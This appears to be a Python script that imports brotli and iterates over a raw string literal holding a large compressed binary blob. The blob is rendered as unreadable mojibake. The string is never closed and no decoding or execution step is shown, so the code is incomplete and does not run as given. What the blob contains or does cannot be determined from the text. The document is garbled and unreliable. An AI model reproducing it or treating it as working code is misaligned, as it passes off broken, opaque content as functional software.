import brotli
n=a=0;b=1
for c in r'''k̼Ρ tG/Ln78Nz*kBl*wԡwa|ڃ`ׄIPpZھ}"{;yb&lz٨Qˡ֑d?ux:drK|rPVٓPnÂa6P0irˀΔf;pc;Е(LnҘ|a*UY7oGGz@PWUC͓2E}'SެLFk-?Q!QPf>;"e|s e1mBuS,[E4RGl.Bʁx?{jױ	@WȨaSO# ?>}8P!TTdNނ_W»Mv"DQpշaV^t8.Ys	_OxskdA'R)EfbadNmƢBҴA2)҅T@V>{v
"h8fcf!֪ 0?&vej*YE|ߝ}IFtʤy	4dQ3V&~RΡIdqzmŀ?+DrIR5xY:yљ3tjZ/'zOe'~`ȝ/Bg:mcbg	B2n)ŞR8`@7Kfҳ2b!YCuOϔ#
0AA΃҂3HR׬W~-3~	
ҕ͖<Ju".r̸J1y9pDGdP<̴Տ{ONeޞlQƘ.EӞ]-n\QLC|iJi֥T	ٯVJ|xqZh?Q[QIu0"`_/qj֠X"ݩJO3t[ mQ""/+v_{ҼGi`ա
vG~K()d!߆*R`2YF|Thn2b6lm	΋Zm\	fov,sWH͋;*4öw	mrT!/GoW6
/!>.T#Ɩ̗\B5Àw?|?U6U,Zwl!TiNp).4=ζ]&
eY+\7cdkuhzQG+ZeLWa5̜z ]͍Ch[VrdaYhh1DAX=ʉ-ЖP ΫF4\uU${,oz/l5D`ϷOƾ#u<o;() _g{N!s0m<9ŉ0QB~!Ț{7X<YűI
k.GZwf]J*QM<M'VnamRn6zD@CS֑}I`	{}JÊPV-8"_2x<IwRncnnZ}7HYYօ^S& ZY**%=Sz6%g{w\̒ǭGŲӦՀ؞YGAI>yiR4	ޘFoVQbR׶'v"HSRxe57K y۸|A\,݋Ȉ-,k&k2Gu@Af9Xp.3.USGvڶz[]0GQgw"5ͤm#^redv"Q9%'R0kPL ,=k76ƀZz"%e@Ƌ!$q/NqݏКAu@)1E-7^#_#2s] !(19D[VـaQ.qHeBwRXĕD;zĹxY^Rο;K>UeNĄIՋ;NX:"OO2l
ЈuJ?_L}-&xo
:DλQPƉ(-AHe#U
-tP
ӷJ4\2UoS©DŲݺYNg$Zly1"}rP0drRۂζ~+k%yVő<[\`qV'YZG.].5$<1S)-mTz/H[;(u<٪yĩYbS"_͊ڞ"f5=։j]fK0,I> V̕tmu-+Bw6GbfH9E{SĄ}<P;VQ]:IE5/g*;krڿ?>E;`4oY[Wr2v+[΋6+oqĻ*,Aë`cnӐQ
\"VMN6VEOVgNfQ;;Ӭ9%INh8ʩ[]6xHli)O2Ò|AacHс̩Y<u֋,JFXr@5cw{cFt؊qy~.>Orn6ix,lg7Afb'GmJo{ke~ӂ@X)ueѥ)J:l]~˘Tз*P@Σ+?ukmƾ4Ҹk*ƍX%\tfSGI(RlNJ	0s._K?0 |@0\Gz=P;E_c@&TY&}	5H͂=!GLG9@4hH ,%ǘ*U~8%tٕbniүx3ф_rUF?
xx:8V/ugFPdJ~1L1XmG K4PYF!$))?ntϷp9g{d32I_"<4OJP2qv/Șk^{
nE)yvm%\k
};@'auJQ; vLЗοGlAfۀ`Z&֦T֚L<ˢ]tJ-ţgY!<P{(ʊWvnyO$,0E"2-5L)m	5K>#-ҘۗptSΡ«Ɩ+AҢ8Ztލqnӥ.>EIcnϙ4μ!}#yμȎNR
&no:ڣ	@>ζ5[z&\@Ĺ#f=89fn/6[ē˙(+GUynmƖR>B~?|Qqiʯ4b;Aj
(MhKMsޮ,)ZJgq|7L݆WrKz0f|`g͗ܩss?dg@ºrjspdxߞmjnY%U@"YI|q/,FU<FѸ1ԡD֬Г(_7btz89.uIA'P).a.|~SY˗,)A؛;ye$r9Is(*~3N^ҕjfa_3
%.+ջlȫu
!8ZXTi'U+u
)vBPZ:ƝGm|qL~qKqMUUpW>m:һJ'`?j2[&Kϙ
gPrևP2/mڭX"5hʢ?|K+͜#\ҝݔ|e]5Gz@3!x*ß=JkU+;κQQ{W/3#59.3i_#mM(ɠ۠HȆ]Eϔ	  \pVYOɤáuNL.j]uS՟&/(<pf?m!6y]	x܃f+ŃߑjMl.*l^B>?.Rmi(zax+J̔A/̑FvцB*zo]A;MSãnV>\vL{߄~]JL:(V8rHj6Y֧FS*BVGfF]_1ۗQ32
C{J}zޠ((1Uz+QL6HR#Ϯ$ɞL\";M#]Xdh'aڏbfնB	ЛsG[0Dv-]mυ(*'U*z/tŒCL=YU̬!~ڲG7"lA_U[\Kvh(܍Ԋ7Y[j|'L$/L97w܋0gT@,Ҭ		t:	{\zD5sUЈ,\r~9{2r\]M[L3k&3-F&RԞߊeeu{x(6s;hx=cPHфPp[f"kةiՓ ^:;Є1^]HHL;$KGSQ]pƍ00EX.l{ӆ:mÜWJq-lDp>}Oq\'d"B/ci)xT~m,K1Q'SLXmj
:c_$Jx[5Þɸ&k1Ųٺ0D$xoCZ*7vIqIOWR4Y)S}ctFŰҁi7Dĝ~1l^=ԡ1ʒdx(uq;:ی+`'`SeHڙjl*r	.s/;թPВ`#ܻf-a՝H*׈b՗v(X
[.+'Ůlin?SYӨKddKX<*؟H|h#u(gwu%d{gޛo}8wʘ. {5K!p^N!BLr!4IA59"i9ȵ[^n?eWd9><(ȜEX+x5Κ1Y0,;<k/JE&(9>Dgst{|s=^]ػd!#Ej4ͭ&Tɭ*3a2ÔՋ`}yXh>%ΫXVjgHÿڿR:q1P[ <0qmlSE޽4RpJU!VrlZXHNo_-	"Qu[י
Ŋ/l\+US,ѮJzH ؤ!ŏ!wā7ߵؙ.uËZU=
wɠgZE#,(c)ό;?F|Ħ#OL+0RB!Bm#=c3NQ@kcr9Ю,0,
4*ݫw1X~	zt]sz`$&ͥb>-wMA)=kqطgT.B"ܦe]a5S+,?Ո)E$_Lm-6ĵ_6mԿmb5Sf9!(ywNݝ!o*ОΣ8Ǎ4Jơ"Gـ_j-b0))i/˟,֊jY=Y%Ļϰ9ԅ:#
ا8Ë
:3z*w|YILX~M2YߴZeSA%͛,ktm53{@/"YaB1sCU'~ђjƜIQmp ]^Tx^ɟݸ6iӘ`=6)@-=r&R%a_%t|EXr`tc%RBJьwɔKFN|\dcG\K6ľ߽Guj
[$<Ǖl%GM"`ث^=,Cн34@C8#ezyEqjKdA6RϷ?"/A4e#R
F1$:Zv׈F'^,R9&Ղ3	|,Ky29]cۥVܠTԌ4W[˚KG6Ej{W(H/V\߾7L&";uG6̤TXy?CɁO{b$֟K[wTy*zHu./E=W &`R-p$~ӣ!a}\~rhч9vdӋvKZpeҘIXJIfNɅ#Htަٺ,y]+3c-պ̣
 <LCsԲ?W0
)z;s/gθW7.nvkC)QҜhuw2whvR,eϹwfu*ۆ4Pq7qCѾz^yavzlF֪|yuK.5Ap_bŖSF(6ޙ>ہn;zcd:ngٚ'<<fq$u|xXߥ1`vT[$6a޺׳d[ܦ%^qoiVͼʗͥwڶXZP+Loc΋:;(Ɠ9HɖָVH'w4saL-s4/7|8go's7w4k%ɑwp½ݼ0dK
ӟ2٘,WY2܍Фf},ON}6ΦGł8GLYZTD.FA-dŝUm=A`@BrqB!d}cXN'hwܿ"Wԅ0ZM0n24ˇ:y"a{Wp]Gdpl~L7<!6["FtZJJ܀du˫C;TcƠ3De'I}aOq3QcKC҉R5Ffb.}Qޢ#;t7zNE֤9n>yk\I>Pd[.}דzξh==٧(A+<aɥ1/k׾ip0Õ]jA"Ӄs}[4A)(#'H2kx$r(#T!{!C}zZy<$2#J@ٵs$nHmgUmIT'`7c*О!(&.%+ClEe-
K'ZYSe]شl߲L^["djÍ%+3-<kb˪"zszVBY[ɳ1vYӮƵY6DjцV#FTTc8wesٝdgfdXiџيƢ$ZYͰ={O^ʭ,`׺0naH˝>CԍP_kXv++ȅ(JG&>(_&ӨWAg:Gb00R?f͋:Znlg-Ҝϱ!˞ړm|pMF!UYN`19>ܵhWhtyE@
2ӆ6ٞyߏK2^FvOeu:ѸWE1^`r5W)]*[z|6F\L}de0\!V`k|S ԚQanʰ;FmZSBX5r+ue^|5_sePBf: Ӎ\.vXZ{5߅3 Cļ%V\d;{P-4WkP6EEh"JRmWE8A-Ys˳TyUզ2|VXk]8XJ_"6[bVCuTi 5Sփ|d"	_#M9F%[.3Pg
OQv5vscn<:@ Sk(Ps9S,t|c4ҡuPa:|ƨDv]YkNRUS;ӥk^R@+9Doew+G*Y16ލ3MZ$ |۽p16/#R
ld>xs؋nYN}zH$èl^ʻsܴibtynOb3!G*TSbAڻtOZUyΫޡr~Fl6oL'
_qla8w<Sh75mܪLabh|ˁWOֱͤEziHԫTg(dė@[S0!gfw|ʆJ%(QBwiU_tx5 6V0մ6(Hx`Z5fga`(9n#2!Kd("8=&	ȣp^?oftЛ;s?Ǫ(Fń8Y^3"[<dg*ݯ8a(y|cfHRؑP_[ކ"2˺XމLpQ?2c#0{^څ5sW$&kMXz'9ǀJ?{s<iEؒ/U	_FHWϦgņ9%R7qN)WY<5dê	qv?ɰ{Дv`.aKZ
lo8JmKOy#R5j7S8K<Qk	^;d}&yGmȕІvR̘֡ޅxjO54bպb4($NҤUHܒӽϲ@Ud4JԀXŤzӼ5)vgǯ`!Ҵ(Ձ+cj`Vr|@-+J-#<'n[ހWժd	,8~i(U7ȗ֨EL0}h\GlZcLnCҪ2>My8/%ёb<bl> $s4Ƕ;%zߗbsjbz>b7R|`0ٙ?D 0ͼa_%xޑ_5QP<?`I&(Q5ï-ySf(=LڅK@TENy^ͦ'.w$@O pȓĢ1+bX,]^kFz
't""Xr=ilS#jr2w^bWwC_L^׻ytXb[\XR8%;pA/qBvpҶ8W0V}jJ:Mrj=prubv͖=wcVՁt քOoo?:yax
Ev^J<ZGq]w٘z8nh5TMArޞQ3B/G3hѡ:*19Rܬnv%;{cU(2V|=af$}cE tycky@_Ʈ53?<Ĵ3"^5,?f+b̏RϞ(;*4{IQ
@{Pp\kԐI}L"|__UfXT*iEWJ!lB:yF7 6/qOt²\ERihw?z(ՃaNwŎ o6VN"pN`
Z:5LPo.#8FY*0/39;-P+zo\-,DݳA1NI
ԫ!%uC$j	0^^]i#'yۉFێ4YJTD](A8~ cdվx*vvņkK8!.Ôh	V(d:< Ӕ d^4d8C}JK1fK/ʚ^'	ѧP.u0r#|ȅ"s_oݧU~$" bD8WlR)^Ce/-զIªs_#D^PF<;`lf2ܼDC2>۵h~dΣfN8ViWӻ`OXLLPtsL?%%Zdǋh IK=$oQW2WAy_Γg4m`t_C#	MZ]s{1TKN~)[yFwBFmaʗ.YSQVs-6.)'R!n"e/!2d݅s'dD"LwlwoGHUb@G^LUT
16[xG׈P7շ_4%4suZ52[A0`&SҔ %"P^OnyZ@[_onfޓ%jңq4EsY*l\3Fݢk*DbAnх%,Δ)ܬ۸Eq#WmFgz656Md(QM4Jm_kDTe͉07 <_ˌYB~L%%E$X'gԃn9-*('jo*+x٩J9Y$dt4Uj
i(J ~ˀ'|[hqC3F׏Ae_GfG	^rBՇӼyWxnn_b/}JlZs^/2ק.In)ȝ^M[_6:g.(^Q0WYZ#u-%l[/ŏąa
OJ,40=Y_؟=:c9Vx<h2/5%Ӻ*5,.8{ɥc@`_{iZ(&' oSĮ'ڨO"0\۱}#5_i]
Wdȟ7,f~v|Wp4C$qsL*UU0#Mw8՝1Б	[ӌҽO/_iiOKC̆9Xq#(hdN ec3HK';?ήü_7QgSywZ݌pgz+WdwѧN~!SQRgDm1bJϪMӊu-cqXǫۼUfG`6*=7HAMԀ/զV-'-|)N?CΨY	6	M+,}sBvfD-:</Җ7}{ԏAhX*PЧt*PӇI?b_<V߷+z:IcibΌʐٳѷLAftIGlha;ʜUV%\	*j*yѽЌXn"֝*|NtC)~݊b)/!N%*_
wCǩS-<̾mN/s&=\r60^F`htRCD;(bRP2L#"h__5^C=ۇ?օt١m1M9#&/>flG:5Y1Dp1u+{ HQʻ5)ǣLI!.(?ܠ{+S&h1	!\gCҽr@zUxUܰA.`I#poBqx!R
ws!߉8uܼQ@/i
]	q_+I@rWyEfs*Q1ف4ٮG;egAh2[j؎S2|eIBX4{}^pxL2eƢ_Ug҉b͈'Gu#ʚp8ޕ7= H&h$͕ОϱyhB7ZÛR:Q>rN@VkݜڣT6ш_3qc,b<8j0V̟I?ԻC@c\T)р#ضĘ6pPXY~n<߾C\ȝ/:jkCrfKbʉ?yn6a=3\m3ւD8agU+JI,	febߥԧCdX4&*xG	sjޕ	ĠQui&0yj|#hxu[ћKm1_l˄г!Jx<۔nzM&VW;;cqcq**}Xjra"Rl&wށnL{԰[Q<0Y`A&6ʹ+~ǵh/`±APhx{PJ`{t'}]ppԨS!xؙ{&
\DXͥ EFX2ϗ=`;egP2EC|kW31ʟrx7H%q%j-mmb߶cؒO\y.C182_؏Ø9"Ck[MRb3'jߔԣLbB4*Ղ.)lG7o4V$0"[ߟld5PVv'v{G|#n@/|n4Pt#Z%ov6:_14=Nd^F<7T[s.=)އF81+aկΗXk`9c:paDF6eWB_(݂< (ٟpIzHN}nG`Sl6]Dɚ΃"lܵòs|7`[:pW&
*fEpS6vtc\VM |TR,[z:e"5@1Q3Gܑzb	YiJ-#|[Fr=ݶor0i=cFjiw]̔'x>YlJͳqtQ9ǅ
vlxMh3O8!BnweHĵMKEL_K{XwNQ4PYVXhmx8,3[$z!ۆ}ȡ֣XNT|(uK-YvMrA]Ce7%br|QPn@5'1	ߖRfqHQ/'&JGp4yĀ{IӤ5	͛'J=ّ+zmB+9]L~:bamMîeE*k²ug/ \+>{WDNvBgE\+`d%a-Y:v5tצAC>Ɓ"#,cb@+";'Z*`̙lDeR-LMJ<[jMG6o!>,*':Lٞ8lhWNպh%&2!Q?ڋOKEݱUlwuxKǓNi7aEzȮU:#K
W|нw\[Mq0Aԫ3n"/l4<-6q8cj *BzXnGƔJ&cҗ>(qHVk?ͧUqsؒL&0NgbNÂ8ڎGd~]2 ?G(
}<QڀhR^![3Yxol|<(5+:sQnυ""Kg9kEzHp6@̴֤RT
MM)m3{˘k*:aXmm2Rj&(]2-s^7_[j.Zو
)(P"C!pnū M˔K16XI[Իf<"Bhh*!M1z6ˀEb;jo3l(!Vmc>Lz$Oz6s$iaŔPT*f,cEsǉ3d&Wl ߪSpˁ=vm7l! Bn81>YX{a
rnݜf
+E`cc}k8JfRp,3	q*hev7TRPnDYqg,13/_[K(.60	W#<
\"̈́|Ajkiܗoǋ&ruE	JSұ>[ Q8ȓ`2ѢR]o<Qpo%ՅD`YĐ=[i'fOF'ý_ֈasH0MLVg6ˎVUx7sW)Ƕ,̠5W#P &}2~ ^i-GpunHBz<,>H7#E&o:Z׍>@1+FX֠ׄAq8Ʃ7$hf[ng'xl^,UJU&?7Bvٰ
s'`=ӣSˠLJܙ3]=?'3~?q\z8f`.`,}|G?*T%?),"ëq/zc@@6xZΩQi!x~ߨWR#|t?iƕywgs0]]Gy~Rt؊~N&װz}[vj1TMִ{d&pFO[^}(y~țȨF)6jŁؼ&&u[͔,0d\ckyh8Cn:ʭKA'u6\ij4Г	Ȅ(c/b$<ҕ\إsϟ4Axm5Z3ˎ"T=?eӘC}d108!.)`f4{L<xsHKC&ܶjI٢h+mۓ^y<ڵ*WLom",0u-
4"EDp|z`WK;b	i-Ǹ=:նfVhIRIڛv\2ЗIx3'5VF
ȌL5E}nUuҧNlsԖV/4?1ϬCp#cox(.٫)=[ĵJ;Z.gs,6Ò:kw]==;,]Xn7;^?zΦZbQT(H^LJɬqvՃЍի'#ǵ
S;pj>Q/UϳΕl|GT'w%Ӹ1:גncs,P9doŸ?fi9aC}"/}U!w*iZqtȔ%o2FX&t(={·z@5EZϽ{*5
YgXR>G/~[7EظP.ӕBWR
9oθRD<M#$K<e:#]CScʤaŹ1xRVk0~.fv"
]#)Zne%!]%Ճqn;6DKi[}NhnRolɀ094Ck1m`CtpuBt4٤ϮΊ[5*hL@J,|CӀ!QTE1-,)/0V{ݑG8ޙ6)##Ρ9:ܡk8Ձ[ٲ3t=B%nQwΒ}؊,0:jrPU/d?L{o0V\DӋۊ}nrE|Y}xɥA;l,cx7ɓM>+9yہ~Aun!\d;2n"Ӌe$x˓v;ؒVZJR FVL"}pȹ
f:l5NM"361n7hp	)v[i2?O^uOi8<x`.y+?\~^~^CA'ѷ9Ͽ 2ƁCtBg<&C;fTKFW-
'3/gRϞu
$}^xkULn?wEcZ[7;F8L^;L$Mt[ݳ̠.rOJ9.f+y`WLn.ê,_Pq&3$8҈F-WF&{ó'lfX|N'S36ʰ[HXkE_,we }86LOPE
X`C$LkU˙~	#y<kؽqEa<$-x2*W``|`H\RD3~3jƕM8ڻ6Xۈ˝Y+AG+M4"='a/zrrYP֦۞\!!q[ۇ3A_he֧><j{SjFڸNn9ΰ^Hu]qiMO8ԻZl1p'ϱaӢYG/F^mVcКcϠW<رnܟc$
[!KfI)Stnɢyc$g49*:C&VaNF(4*m!)t͖!3gfbޘھ=)!ݏR֗+,69Ps	'=oiLW4zfzTr> ߮6MDÄXec5ݸ@	qb.8TÈ@f](kd6>	sZb·i7Eӄ2CwG1ld,-h^HũkJ3?c݃IiwQC^eߜ<4!x:)U~&XJgPP#ߍ!3lp*,Hd&hF#aQx<Ň:Ure8ԓ+ܾ6]KTyLRNb^*H8ϟ8e7>VE՛y:Cryy6[:]j'Zk?7"Ԁpttfm?nӄֆ`ۀƭrFXp2\ێݶC#5tM(V')Ca9ոNfοpbw؏|<ޖL^M|Ivn7(}u/
o	d׀`oE)C@,k_ƭT/=P_1MBٔuhŎeаIF V9$+JGCD@2AqP/>:vKK4̿܋_ĩ ~ho/ojL~-ix&hgI#=t_"1"S,=$-rZ@dYsGAW.wcK]q(k\Uhȵ8.ߴ,KLki	%w#L(C|j%^e@?)5N6K%#ZO^̣˜\Jh[9M'.oynؑȨQ?9#K}$-Y`=fvз0Q۸F3">ߍ>Tb˔kɌz߹Kbl?ySf4ǔfΤf?+1+GPkivh[#Qʞ65.{kO91 أX&G
dHL״bs@¥#r$e=hh1:b,}l^YU)eξgۓ\݆z H<3zi)f-piHir^.XLl= /g*;hm02\crËpV݈܅Qc'DXn,Ï.IAΐHOGu۔;(ӗHѳEoHaIkp;,jq֜d}y]B!̦Wiھ^S+I>V{b\mMc(Q6'5ehX4
=G5q99Cg="R!*17^_ږLp09Oѕ́JQ>7OvQ^1MUPц͞K
bOv4۶@k%ȈfϭoΰY9 PM	^[9'XBGOszzEX\haF&RWqAU\.ܘv!le?^1'XpxUzM21<|`PЋ|r.DJK#^|. CB\pBj'Q˼gf?^)Oeʜ7Ͱaբ;p"Mhse:q!lߊfu$ltPmr#WoOk.
\j _@KLi?p߱@Q-oN~hWt9/+LȎ6XWC.]L-wY?,m%>\	ߴ0%Vتuסϳe|&ɴ]5nR)2Src0^z1JBC-MMUB=wN
~%ZI֋_*אNuG!aIfvD0Op:<(Mz(zϥSvzy5w)'4_ɥ5:ߴ=̽=
WZ;9w }FNcP)?QGV/Z\Ō&B,
.#yGq%7|8GmȜ|`N`2މ:_MOq֠$pwjiPg+̅BYӹͣ1wT2ߐ0Q*RÚId8'9+}64?C	1p%7$5؊Jbhjݎ*۷p,2$DWQ˪l
\+d"^].tIl}-T׳_GůFfkZ·ryo#Wk1ګVNbcƚ ¡ܳ}-X2Ur9ƐoL2,֟
܌M!;geΩI_V[ԹSsjpg]5S+19MPͅuNrz`At_['2sA`u(tY#֯U"7-šÂڇyMzhF	>[0!ߛ\}(yRcS}0^
1/y(gvь$+׊FMSwK݋yS`q!oyd EI5QQ+؇R|]>xɐlH6Ei-܁܆s]KI[_e_6n֜G`6^-tSi?N/4@3ë}zz"vv$Kg׋	>U2٨ľpL,A;rqyءݴX+-Kؚx/"7mH2άyͱqB
;T2fI9ՙlT,of|4%b4X@[lǘƍiz^yWR~?XO]pwΫLs9ƱAY%dT:2b|u̩L4oַ[9q3
VJ?~cX(CDǏ3ne#ˤjev&рp>h~R܎yhSGӏ{b
bRr
(xJ`ݟc2=DDehۿǍ5;f5(<7țt}l\7	М+mmZ'ԶغNPj[WےG/Nf-ȘhÏVv&_"B%7e6dNGcikŭLCw =9^Mg|gTr0nYxmVP*Ej	G>8$\A#2Y 3Uxl!͹a5<[NwdݡM8£>)sBi8nex"UGl);9ewH+^G2Jgd6!X,=tvIl1;.)dY\N@4ۇωq\anTbd	Ȍ+94%!_$/49sU>C?GÎ̢!?*G|JLZW
+lͭ`nWFL^d´r=D{N_-vJ%d{&`"_5n%Q-ܦOa{ҁxZد['R!.! EW&fIdjXO>aQ-~@c+"OvؗI
HcʧJ.#g%rȬm1߷OQ@q3IL}N[T(1~ĔYǩ+o@dIRVNbCu>:5Y0F;[;u[Ǫ/mŬϗ!.pwkgc|g߭DېYK7\_C\U8PuAۭދWט<c_}X۳ȬSXe>WęuwsԌ>aN,!dpHÍWIrk(c˓'8G7Tc]'ʼ̔¯-FQz	1'YK.Fq@vmxNJvVQK*]SngM0;&XłƓ_xe=hߥ-54.6C+ 50p߯SڮO2҃ZhӞ#֒?f%*^E&ƹ7
'1N	m6/z`#B)jn%ҎQCez}nb$Ѥ$"q()OҢXWU̲GO},WY\Xѵ OHgSQxfg.jQr)] -Cn/4{ȢKx׆U#7!%du
<`7ykVGw/sqNɏ
_R%"ԦҕS
2ϏqAM̔Փ8->̀xkuzč+w6
۶y+1=Oc"{+#ڔK˟9SW&%h!*?%fN+h~H>F+R_dmXY1Zx_ӣUV0K{A,zGP2 ^XGϦa!b"dIi
~R!Hz.a!Sl0%Y:}DB]}V`&Sh؏zAVtFifo˚p3qsJ@GzDs(M-)?3Ȅ2]	'Y{)0%"=L2d`aC`MjҎ}hЅ%#UCOBBjX7=aZGo1(GK('Vx}{8V˫[tU <@ٛSshlʂIՉ.-Wws|_?ً߅;!f-ѭ)8.r
A[GcI̍a8m10eB٨+~#;4Dn:݆{@'!{$ǴH%@)Qٲ;t\ҫeV&_l`v|<	"0?y1G[)0j&=B[U[`VWϱhU*tc`vd<KWbp%ZyOq&.uw3ݴwtfp4E.Vy2mAr1
6N>;_|}{l{rg*"AܘJ!xX=Qfl-LXī!6SA-r0`%
Wa
zocq l78][ϧ.}Wb
Q\kIBx(خl3[r]+zW@Q
dDƲ7RV{Ôg:YH2Y$ <ܞ9y4ٳRsbA3.U;BÔL Ѡpа-؄eC(֍gQ]cJW0ƼP{Dy&ߏ{-N_E
uWȮ{#@K8OMF8"jȝ;-Mx=Dm05*8ļgR&~UҞ)yJZ
^``%[,݊bC΂k9Qӛ=۟<0XB	q/--n!ڝ<f̪T[]((7Ј	(Դ@{@-+"9/HxPvѥe+BK,rîr~;TM8{,ʢ+O
Q0kM?OHz=DD
wV[g$[Ӏˀf=&Ov}&ѿ+,^$ֿ>F[1P0~xFJ^VXh18B`t-߀"b(Hk#Eqhœ#:
OI(ټofPyjAXsBmзݒ*a~6UWT9 !s٢ߺ4./GKHVy{1s0j"It [%kR9&Tƌ	2lZؕJkX9"l.O6jPÍ!4Kې(t/Ϫ=}Ⱥӄ"nҥ8&(w8cЁ(-G\?ߊ#8v,:>=nEy/."`ȕ&+ǣƩ:gȿ̞+)ù)3kj_|ߜ"<w0Q ar,G]cj?Ykv٧L6n::4eGDBJ(8z˯1ɹWƱreݜI-M1T;LդQH^ƤKdu9C4n20?|eLyۃj$.mzf<lģvo7t:-rog1_U(Y=׭)`x,<Dkɴ\>*6
֛v|Ãn/CFIܑDDvc{Q]8B2 LiJF$@a:ݮAצܿXlE()~
P׳O1<.PA0Aqc.Ḃܲw.;(ݾFvV5JVG?]+P_c]v9)@ЈXêj0FQb͸a*u7QFLŢt+'3	̿r:/aĘM1֗"9țՊ[ݐЗ[%IB"#;.[#Fu&ƃAdlkƅaZkakq0a
GQ}t(@&-T"8I*YDNXʎԫ2ߨ3/ԙ</t>bgH=m9+(z~˲!jOǧ˕2ހK6K'':hƉyQ_5ٸAB݉8+Ð{qSȚQީD.+|C۹}ziTTcE^AA־Ww|x@'r7fD!riʗͿp$gúݑ&q)݋9;͕\M]|hjnE	W2gB}quiXQbDE5X=xE8mݿά2\r1j?%IΨ݈5g/ǃY%{(6rݗfU!]<n<Qۚ8=;~F9v`p/Q#-Ϫb{b³s 	BBo|WfT8-i~0mݻn8kq=s8kY?rJݯvyzYHPф¿՚47ڥС<8u9?mcȾO<{NdvhH^]!؇ıKy?Q~sٰ
,`3ɣxlN.
[M>{1.%"\6
$IGuhR<PW3|jƤGy֧R%'юL8.)Gk\,A]9+d{Mm.hB>,
/+wI90*cGP3~V+kuk5' nq-jܖϳʏ;{^?r>Gf$ɴE
_U;Z͒1cց̣QϺ4VfPӔH'"޴[)?FH(2M)8t9ª/	H,tI
Eܑ]ڵz?@,oRIC
Do-G).J}}6	&31+ܢ	GwO˲4Pf)k$jufG(YI:<kGmLVgZ+ܴmFfB΂1yئhpL<X'=ʬ`-%_Fכ\\vKL_zɴ{oMUŜM\-]},O͐6t5n<f\*xV6;ӭxq̶OWq؏/KT0*B5ׂ"wvƣ&Aj\5ǋ	K͓>11VmO,٫Bf`W5gϋ=xsXۿD7#vȠį1Q~9ܖ_r2LH`2'KLx,1&5KɉO@-r,?8nwGX~ݹl>d	z9mфm=LYDEwλǛތcl;	Q	ܬթεm)Vm3Cs!"TkxʯB}4;5]e*ŘlMVuUG0ȪR{=!"_:)*!Ա̎ƏkXi_qqI+Na߃[2x!+TBw{8؋gfQh=+g\)osS\kxܩةR٦~Z2#2ѩMetU!Ǜ(XyX5 uZC׼ q"3aЪZ^l 9՚!Fp.ӈ?{UaOK	TvoɁC$ɹXFkBE
Ҥ̈r͸,Eȯ˼<ۥg6xߒӳ@RUTS-uqܫ8ͺeh٢QMtQׁc[T<}4OЙ܅p'(ZBV"|Ґw=x˸!=֊8f3##^Kj
k-ޭڏ&|eEM+y] 38¤yN5֏N#=ؒuq;Ԛ@uoۍ޶t_bMaϐ
%o.--ġeh5Sq_Ӟy*z٧(\sm:Ӻ&8uҥS{=)f՚O_x`5|f܈m),>/W:=qץϫ=lUiO_AriƅN4F>ٍYƒ+
DYln\CΘъ63.^`Y@_^nؗz!:JGYEȪy$^nM4yt]MTyas9]xe53NCQ.y`YCpp=9T\+AV7/lfz_8Șt݀<ˢCTe-yxx^lJJK>%heF;P%YqA_xbq[amKa"*"uI@#x%Sszև	'1Ry[p1fu6'U5nP5M>PJߕ%h7l%ZaY;+¬Y.4j}y.73=)}̻KЛ;
&_{?̔׋pj7ͱx?*SHAE g,\Xٌ*$\vL0ՃxލT:':@dܰɤӷ-/F>nkr/R!<.Ǧ(<8*q%TY3
~V"!yVNA=N0ՔƫL1É"=5'uZ!q;P"`љNoԕZ-VN<!+p|-<?ҚVX`_ҿ̪'iޡA6jbIJHU6MpsC
=U9erIP(%T>4S0K:]W+Uvu>=kAQ9e<g)}>pK;'-7m2-Vȕ03`߁|7\݃e<ǲmG`]Ӥ/	Gѱͺ<͕JʞXVs<ډǾ5*OFUV~g4g}!(d,`$Е,Cd_[aooGjA}0
L2"=&Jğ}h#bx=``o=ݠ}2#+5?_}ҭIA+ڐuV!bdpvEޔѝЛ{  K|ʺ"8:G*r0]R8Ӈxm,T'QH|.]OL<E+.#=U10&ebFnT^\rya~+Җ%~JO_7'8|k(׳hKĿۯnJ۫<iqs6seC@$ZAѥоgLcV96V;0Ún4L;'6,\,apeI&<Ք$-ƪzydĤ'!q܂QG"H$P/3ˢD(aeNidg?+4x9BЅhdߔd9__T|ES]Yw<~׉ʰ 2;YfjfP'&gn&FV;m}s!iO	to!"[/nmv1Gkq)zw<XQ2"-"]FCkі^ӛUSpY4r߹D!*U[ut¦c޴[ԽKuruWO]WdTGLj\,-k7dzLǀn	IȀ-oIp9j_;Uxpdc\6leζֺ#eLBŇeuLډs~yAcx!_m&;йA@
oAS+/PJ[@~4-ƍ@}}2ۡNߍS		J)ޓ0~{,5@$ovyXy8C+w#
^ӭA|	/ʚ(rBKh;B د"FE:E%1Ћ/VI*}2s3üPbfKsb&}fG\&et0˂ht<Yɡ%D"	Eǖp}5ռ$( Cc;DLwH^_IwWH$=us(7W$۪oU6_2%D%q/njW8y:F61m*}uf)[oa<Y7{,AuIpvo$}zMۤoQcŎ;J+m?7
9zΒb٤̶̳Rqãl Kڗ><ɸb|H?ǚ'Z(/[k}!"jۭX4דTǲԔ..\GJyF,ވ!"܉T'.|VE׆Kwc(G	jé~RJfи(`߿*xr !>fq&hF*m2ʶs=V?JHF^x{f%/ŭݘU"`J"ӓ>ˆ+QҝX2}PpBEҩ2k܉~q5dPVq'!H{2!^ŘJJ;/׻$Q9z[iMMn2Є0"\B+ڎZ1l$>8.ĂҼ\T^o<#lXɝw4b$j/2mou2`M^Sc,F\<It!O_4r8ȸyƦp~Q;[)ٔlimh\u8\'ճT:Yώ^OF#ܟkchlQ`y֝tkU4ude_a-[49 K̐^fQ{ڢlJy$ͼׂm^«­6"5ŏf(^BǗ\=r&¦ڼwRN@2'm|~юCŤodvڤY=L^,$ĮzQl.v	C1ES$w\lbɫ&vȧQCЮiRe1T)A`(G<hiu7Pyߡ+'Õˡ1C"rGv"FQIGi<3q/4*׻_ryގ̨eUvL]S,VUfϭU^@`S,rMBoތCӐD	KOFֿ(?l.p5gP<ݲtQj^,<qP#mȮUѩ}+7Ά'JqitL8OIkrwHa2T͸FZRZȉ/A5:/GRhcKkE%F(p%Cayguo#s?bȑJ9$"x>P:-{"&,U|KTSSq25[j@FT\ʬҕ;كHT#ҒűhJI~X 1'͇	NuA&Aƨ}]5þ+8;Rwd+oԔq APNIGĔ\^t]v10!h[ԸءM>}o\ߵm6׬to>[M)c}:@YKNۡә'X:̡ɔras͙L?u!&ǀ0Aih5$U<_˓ʈǆ-9Ou`8WbѱQyIOgj۰?@hus)Wɮ8Δ}rvSZqgyAfSR[Uk}dTe̢%e'{mhj,/΍mZ!VG8'_0"ȀSNw-QɌ;UVj!dȷƯ{vmo&/'s{2>VDe9dB